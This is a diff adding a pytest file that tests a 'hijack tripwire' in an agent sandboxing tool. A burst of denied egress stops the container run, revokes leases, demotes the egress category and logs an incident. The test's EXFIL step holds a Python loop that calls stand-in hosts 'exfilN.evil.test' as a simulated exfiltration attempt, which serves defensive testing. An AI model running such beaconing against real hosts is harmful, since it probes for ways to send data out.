@@ -1,0 +1,136 @@
+"""Hijack tripwires: a burst of denied egress from inside a real container stops the run.
+
+The egress category is graduated first (a simulated week of evidence and a human's
+unlock). The agent then tries one exfiltration host after another through its proxy;
+at the operator's threshold (a Graduation manifest's ``tripwires``) the run is stopped
+long before its ``sleep 600``, its lease is revoked, verify does not run, the category is
+demoted and an incident is recorded and listed with the egress log and events.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+from apply_helpers import (
+    cli_env,
+    kagura,
+    leftovers,
+    live_leases,
+    make_project,
+    manifest_set,
+    run_ids,
+    run_row,
+    write_task,
+)
+
+from kagura_agent.clock import FixedClock
+
+pytestmark = pytest.mark.docker
+
+TOKEN = "kagura-tripwire-canary-" + "w" * 24
+EXFIL = (
+    'python3 -c "\n'
+    "import urllib.request\n"
+    "for i in range(12):\n"
+    "    try: urllib.request.urlopen(f'http://exfil{i}.evil.test/', timeout=5)\n"
+    "    except Exception as exc: print(type(exc).__name__)\n"
+    '"; sleep 600'
+)
+MANIFESTS: tuple[dict[str, Any], ...] = (
+    {
+        "kind": "Graduation",
+        "metadata": {"name": "strict-tripwires"},
+        "spec": {"tripwires": {"denied_egress": 4, "window": "30s"}},
+    },
+    {
+        "kind": "EgressPolicy",
+        "metadata": {"name": "docs-site"},
+        "spec": {"allow": [{"host": "docs.example.test"}]},
+    },
+    {
+        "kind": "CredentialProvider",
+        "metadata": {"name": "token"},
+        "spec": {
+            "type": "static",
+            "standing": True,
+            "secret": "env:KAGURA_TEST_TOKEN",
+            "static": {"env": "TEST_TOKEN"},
+            "baseline_scopes": ["use"],
+            "scopes": {"use": {"description": "a canary token"}},
+        },
+    },
+)
+
+
+def _graduate(category: str) -> None:
+    from kagura_agent import graduation
+    from kagura_agent.state import StateStore
+
+    clock = FixedClock(datetime(2030, 1, 1, tzinfo=UTC))
+    with StateStore() as store:
+        for index, name in enumerate(("a", "b", "c", "a", "b")):
+            clock.advance(timedelta(days=2))
+            graduation.record_outcome(
+                store, [category], f"run-{index}", f"t-{name}", "sha256:x", [("true", 0)], clock
+            )
+        graduation.approve_graduation(
+            store, category, who="carol", clock=clock, knobs=graduation.Knobs()
+        )
+
+
+def test_a_denial_burst_trips_the_run(docker_client: Any, tmp_path: Path, state_dir: Path) -> None:
+    manifests = manifest_set(tmp_path, *MANIFESTS)
+    project = make_project(tmp_path)
+    spec = {
+        "egress": ["docs-site"],
+        "credentials": [{"provider": "token", "scope": "use"}],
+        "steps": [EXFIL],
+        "verify": ["true"],
+    }
+    task = write_task(project, "hijacked", spec)
+    env = cli_env(state_dir, KAGURA_TEST_TOKEN=TOKEN)
+    planned = kagura(["plan", "--json", "--manifests", str(manifests), str(task)], env)
+    assert planned.returncode == 0, planned.stderr
+    plan = json.loads(planned.stdout)
+    plan = plan[0] if isinstance(plan, list) else plan
+    assert plan["tripwires"] == {
+        "denied_egress": 4,
+        "window_seconds": 30,
+        "source": "strict-tripwires",
+    }
+    [category] = [a["category"] for a in plan["approvals"] if a["category"].startswith("egress")]
+    _graduate(category)
+
+    started = time.monotonic()
+    done = kagura(["apply", "--yes", "--json", "--manifests", str(manifests), str(task)], env)
+    assert done.returncode == 1, done.stderr[-3000:]
+    assert time.monotonic() - started < 120, "the tripwire did not stop the sleeping run"
+    assert "hijack tripwire" in done.stderr and TOKEN not in done.stderr + done.stdout
+    [run_id] = run_ids(state_dir)
+    assert run_row(state_dir, run_id)["outcome"] == "failed"
+    assert leftovers(docker_client, run_id) == []
+    assert live_leases(env) == []  # revoked
+    lines = [json.loads(line) for line in done.stderr.splitlines() if line.startswith("{")]
+    assert any(item.get("kind") == "incident" for item in lines)
+    assert not any("verify 'true' exited 0" in str(item.get("message")) for item in lines)
+
+    status = kagura(["graduation", "status", "--json", "--manifests", str(manifests)], env)
+    category_status = json.loads(status.stdout)["categories"][category]
+    assert category_status["state"] == "locked", category_status  # demoted
+    assert "tripwire" in (category_status.get("last_reset_reason") or "")
+
+    listed = kagura(["incidents", "--json"], env)
+    assert listed.returncode == 0, listed.stderr
+    [incident] = json.loads(listed.stdout)["incidents"]
+    assert incident["run_id"] == run_id and "denied egress" in incident["reason"]
+    denied = [e for e in incident["egress"] if e["decision"] == "deny"]
+    assert len(denied) >= 4 and all("evil.test" in e["host"] for e in denied)
+    assert any(e.get("type") == "tool_call" for e in incident["events"])
+    assert "verify not run" in incident["actions"]
+    text = kagura(["incidents"], env)
+    assert incident["id"] in text.stdout and "exfil0.evil.test:80" in text.stdout
